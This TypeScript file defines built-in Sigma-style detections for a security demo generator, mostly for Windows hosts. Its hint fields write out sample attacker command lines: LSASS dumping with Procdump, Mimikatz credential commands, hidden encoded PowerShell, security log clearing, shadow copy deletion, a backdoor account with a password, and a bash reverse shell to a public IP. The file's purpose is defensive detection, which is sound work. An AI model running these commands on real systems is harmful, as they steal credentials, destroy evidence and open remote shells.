import type { Detection } from "./sigma-rules.js";

type Builtin = Omit<Detection, "service" | "category"> & { category?: string; service?: string };

const windows = (category: string) => ({ product: "windows", category });

/**
 * Detections the demo generator falls back on when no Sigma rules are at hand: common findings
 * in a Windows-heavy estate, worded like the Sigma rules they resemble.
 */
const BUILTINS: Builtin[] = [
  {
    id: "5afee48e-67dd-4e03-a783-f74259dcf998",
    title: "LSASS Memory Dump via Procdump",
    description: "Detects Procdump dumping the memory of the LSASS process, a common way to steal credentials from a Windows host.",
    level: "high",
    tags: ["attack.credential-access", "attack.t1003.001"],
    ...windows("process_creation"),
    hints: { image: ["\\procdump.exe", "\\procdump64.exe"], commandline: [" -ma lsass.exe", " -accepteula -ma lsass.exe C:\\Temp\\ls.dmp"] },
  },
  {
    id: "a642964e-bead-4bed-8910-1bb4d63e3b4d",
    title: "HackTool - Mimikatz Execution",
    description: "Detects well-known Mimikatz command line arguments used to extract credentials from memory.",
    level: "critical",
    tags: ["attack.credential-access", "attack.t1003.001", "attack.t1003.002"],
    ...windows("process_creation"),
    hints: { image: ["\\mimikatz.exe"], commandline: ["sekurlsa::logonpasswords", "lsadump::sam", "privilege::debug"] },
  },
  {
    id: "ca2092a1-c273-4878-9b4b-0d60115bf5ea",
    title: "Suspicious Encoded PowerShell Command Line",
    description: "Detects PowerShell started with a base64 encoded command, often used to hide what a script does.",
    level: "high",
    tags: ["attack.execution", "attack.t1059.001"],
    ...windows("process_creation"),
    hints: { image: ["\\powershell.exe"], commandline: [" -nop -w hidden -enc JABjAGwAaQBlAG4AdAAgAD0A", " -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A"] },
  },
  {
    id: "92626ddd-662c-49e3-ac59-f6535f12d189",
    title: "Scheduled Task Creation Via Schtasks.EXE",
    description: "Detects the creation of a scheduled task via schtasks, used by attackers to stay on a host.",
    level: "medium",
    tags: ["attack.persistence", "attack.execution", "attack.t1053.005"],
    ...windows("process_creation"),
    hints: { image: ["\\schtasks.exe"], commandline: [' /create /sc minute /mo 15 /tn "OneDrive Update" /tr C:\\Users\\Public\\upd.exe'] },
  },
  {
    id: "e7a27a1c-1e5f-4c2d-b1f1-2d5a6c9a1b10",
    title: "Security Event Log Cleared",
    description: "Detects the clearing of the Windows Security event log, which hides what happened on the host.",
    level: "high",
    tags: ["attack.defense-evasion", "attack.t1070.001"],
    ...windows("process_creation"),
    hints: { image: ["\\wevtutil.exe"], commandline: [" cl Security", " clear-log System"] },
  },
  {
    id: "c3f265c7-ff03-4056-8ab2-d486227b4599",
    title: "Shadow Copies Deletion Using Operating Systems Utilities",
    description: "Detects deletion of volume shadow copies, a step ransomware takes before encrypting files.",
    level: "critical",
    tags: ["attack.impact", "attack.t1490"],
    ...windows("process_creation"),
    hints: { image: ["\\vssadmin.exe"], commandline: [" delete shadows /all /quiet"] },
  },
  {
    id: "cd219ff3-fa99-45d4-8380-a7d15116c6dc",
    title: "New User Created Via Net.EXE",
    description: "Detects the creation of a local user with net.exe, which attackers use to keep access.",
    level: "medium",
    tags: ["attack.persistence", "attack.t1136.001"],
    ...windows("process_creation"),
    hints: { image: ["\\net.exe", "\\net1.exe"], commandline: [" user support_adm P@ssw0rd! /add"] },
  },
  {
    id: "502b42de-4306-40b4-9596-6f590c81f073",
    title: "Local Accounts Discovery",
    description: "Detects enumeration of local accounts and the current user, typical of the first minutes after a compromise.",
    level: "low",
    tags: ["attack.discovery", "attack.t1033", "attack.t1087.001"],
    ...windows("process_creation"),
    hints: { image: ["\\whoami.exe"], commandline: [" /all", " /priv"] },
  },
  {
    id: "0a2a5d5c-6b9e-4d0e-9f0e-4f3f4e2c7a11",
    title: "Multiple Failed Logons From a Single Source",
    description: "Detects many failed logons from one source in a short time, a sign of password guessing.",
    level: "medium",
    tags: ["attack.credential-access", "attack.t1110.001"],
    product: "windows",
    service: "security",
    hints: { eventid: ["4625"] },
  },
  {
    id: "8b0ea3e6-1c0f-4b5f-9a3c-4d1b2b7b8f21",
    title: "RDP Logon From a Public IP Address",
    description: "Detects a remote desktop logon whose source is a public address, which should not reach the host directly.",
    level: "medium",
    tags: ["attack.initial-access", "attack.lateral-movement", "attack.t1021.001", "attack.t1133"],
    product: "windows",
    service: "security",
    hints: { eventid: ["4624"], logontype: ["10"] },
  },
  {
    id: "2b2a1ac3-2f44-4b8a-8b5e-35f1d2f7d0c3",
    title: "Outbound Connection to a Rarely Used Port",
    description: "Detects a process connecting out to an unusual port, as command-and-control implants often do.",
    level: "low",
    tags: ["attack.command-and-control", "attack.t1571"],
    ...windows("network_connection"),
    hints: { destinationport: ["4444", "8531", "1337"], image: ["\\rundll32.exe"] },
  },
  {
    id: "5f5f3d2a-7a1b-4f2e-9c3d-6b1a2e3f4d5c",
    title: "DNS Query to a Known Crypto Mining Pool",
    description: "Detects DNS lookups of well-known cryptocurrency mining pools.",
    level: "medium",
    tags: ["attack.impact", "attack.t1496"],
    ...windows("dns_query"),
    hints: { queryname: ["pool.minexmr.com", "xmr.2miners.com"] },
  },
  {
    id: "738d9bcf-6999-4fdb-b4ac-3033037db8ab",
    title: "Linux Reverse Shell via Bash",
    description: "Detects bash redirecting a shell to a TCP socket, the classic one-line reverse shell.",
    level: "high",
    tags: ["attack.execution", "attack.t1059.004"],
    product: "linux",
    category: "process_creation",
    hints: { image: ["/bin/bash"], commandline: [" -i >& /dev/tcp/185.220.101.7/443 0>&1"] },
  },
  {
    id: "4f1c2e3d-9b8a-4c7d-8e6f-1a2b3c4d5e6f",
    title: "Sign-in From an Unfamiliar Location",
    description: "Detects an Azure AD sign-in that succeeded from a country the user has never signed in from.",
    level: "medium",
    tags: ["attack.initial-access", "attack.t1078.004"],
    product: "azure",
    service: "signinlogs",
    hints: {},
  },
];

export const BUILTIN_DETECTIONS: Detection[] = BUILTINS.map((b) => ({ category: null, service: null, ...b }));
